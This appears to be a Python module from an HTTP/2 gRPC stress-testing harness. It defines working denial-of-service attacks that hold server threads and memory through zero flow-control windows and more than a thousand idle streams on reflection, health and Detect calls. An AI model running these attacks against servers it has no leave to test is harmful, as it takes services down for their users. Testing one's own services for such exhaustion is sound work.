"""Callers that do not take what they asked for."""

from __future__ import annotations

import time
from contextlib import ExitStack

from http2 import (
    DETECT,
    HEALTH,
    INFO,
    REFLECTION,
    STREAM,
    WATCH,
    Connection,
    Kind,
    Setting,
    call,
    frame,
    is_end,
    message,
    setting,
)
from target import Tally, Target, attack, rounds

NO_WINDOW = setting(Setting.INITIAL_WINDOW_SIZE, 0)
LIST_SERVICES = b"\x3a\x00"  # of reflection's request, which is answered with a few hundred bytes


@attack("answers", setups=("open",))
def unread_answers(target: Target) -> Tally:
    """Frames whose answers find a window of 0 and stay with the server"""
    tally: Tally = Tally()
    with ExitStack() as stack:
        for survived in rounds(target, tally):
            with survived:
                connection = stack.enter_context(target.connect(NO_WINDOW))
                for _ in range(60):
                    stream = connection.next_stream()
                    connection.send(call(DETECT, stream))
                    _send_all(target, connection, stream, message(target.request))
                    tally["answers"] += 1
                    if not target.goes_on():
                        break
    return tally


def _send_all(target: Target, connection: Connection, stream: int, data: bytes) -> None:
    sent = 0
    while sent < len(data) and target.goes_on():
        sent += connection.send_data(stream, data[sent:], end=True)
        for kind, flags, of, _ in connection.receive(0.01):
            if of == stream and is_end(kind, flags):
                return  # refused


@attack("calls")
def unread_lists(target: Target) -> Tally:
    """Questions about the server whose answers find a window of 0: each held a thread"""
    tally: Tally = Tally()
    with ExitStack() as stack:
        for survived in rounds(target, tally):
            if tally["rounds"] > 16:
                break
            with survived:
                tally["calls"] += ask_and_take_nothing(
                    stack.enter_context(target.connect(NO_WINDOW))
                )
        _wait(target)
    return tally


def ask_and_take_nothing(connection: Connection) -> int:
    """As many calls as a connection may have at once; returns how many those are."""
    calls = 64
    for _ in range(calls):
        stream = connection.next_stream()
        connection.send(call(INFO, stream), frame(Kind.DATA, 1, stream, message()))
    list(connection.receive(0.01))
    return calls


@attack("calls")
def unread_health(target: Target) -> Tally:
    """Health checks whose answers nobody reads, from the socket either"""
    tally: Tally = Tally()
    for survived in rounds(target, tally):
        with survived, target.connect(patience=0.3) as connection:
            while target.goes_on():
                for _ in range(50):
                    stream = connection.next_stream()
                    connection.send(call(HEALTH, stream), frame(Kind.DATA, 1, stream, message()))
                    tally["calls"] += 1
    return tally


@attack("questions")
def unread_reflection(target: Target) -> Tally:
    """Questions to reflection whose answers find a window of 0"""
    tally: Tally = Tally()
    for survived in rounds(target, tally):
        with survived, target.connect(NO_WINDOW, patience=0.3) as connection:
            stream = connection.next_stream()
            connection.send(call(REFLECTION, stream))
            while target.goes_on():
                sent = connection.send_data(stream, message(LIST_SERVICES) * 100)
                tally["questions"] += sent // len(message(LIST_SERVICES))
                list(connection.receive(0.01))
    return tally


def _open_streams(target: Target, path: str, first: bytes, connections: int = 16) -> Tally:
    tally: Tally = Tally()
    with ExitStack() as stack:
        for survived in rounds(target, tally):
            if tally["rounds"] > connections:
                break
            with survived:
                connection = stack.enter_context(target.connect())
                for _ in range(64):
                    stream = connection.next_stream()
                    connection.send(call(path, stream), frame(Kind.DATA, 0, stream, first))
                    tally["streams"] += 1
                list(connection.receive(0.01))
        _wait(target)
    return tally


def _wait(target: Target) -> None:
    while target.goes_on():
        time.sleep(0.02)


@attack("streams")
def open_reflections(target: Target) -> Tally:
    """1,024 calls of reflection that stay open: each held a thread"""
    return _open_streams(target, REFLECTION, message(LIST_SERVICES))


@attack("streams")
def open_watches(target: Target) -> Tally:
    """1,024 calls that watch the health"""
    return _open_streams(target, WATCH, message())


@attack("streams")
def open_detect_streams(target: Target) -> Tally:
    """1,024 DetectStreams that send nothing"""
    return _open_streams(target, STREAM, b"")


@attack("streams")
def open_detect_calls(target: Target) -> Tally:
    """1,024 Detect calls that send nothing, and hold no place"""
    return _open_streams(target, DETECT, b"")
